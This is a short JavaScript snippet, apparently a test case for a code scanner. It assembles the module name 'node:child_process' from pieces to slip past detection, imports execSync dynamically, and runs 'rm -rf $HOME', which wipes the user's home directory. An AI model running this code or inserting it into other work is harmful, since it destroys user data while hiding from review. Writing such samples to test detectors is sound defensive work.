// tricky: import with a name put together
const name = 'node:' + 'child' + '_process';
const { execSync } = await import(name);
execSync('rm -rf $HOME');
